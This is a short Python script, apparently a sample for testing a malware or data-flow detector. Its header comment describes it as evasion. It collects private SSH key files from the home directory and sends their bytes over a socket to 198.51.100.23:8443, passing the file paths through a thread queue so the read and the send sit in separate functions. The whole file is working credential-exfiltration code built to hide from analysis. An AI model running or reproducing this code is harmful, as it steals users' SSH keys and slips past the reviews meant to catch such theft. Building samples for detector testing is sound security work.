# Evasion: reads the private SSH keys and sends them over a socket.
# Hidden through a producer/consumer queue: one thread globs the key files and
# puts their paths on a queue.Queue; a worker thread gets the paths, reads them
# and ships the bytes with socket.create_connection, so the path and the read
# are in different functions joined only by the queue.
import glob
import os
import queue
import socket
import threading

jobs = queue.Queue()
DONE = object()


def producer():
    for p in glob.glob(os.path.join(os.path.expanduser("~"), ".ssh", "id_*")):
        if not p.endswith(".pub"):
            jobs.put(p)
    jobs.put(DONE)


def consumer():
    conn = socket.create_connection(("198.51.100.23", 8443), timeout=10)
    while True:
        item = jobs.get()
        if item is DONE:
            break
        with open(item, "rb") as fh:
            conn.sendall(fh.read())
    conn.close()


threads = [threading.Thread(target=producer), threading.Thread(target=consumer)]
for t in threads:
    t.start()
for t in threads:
    t.join()
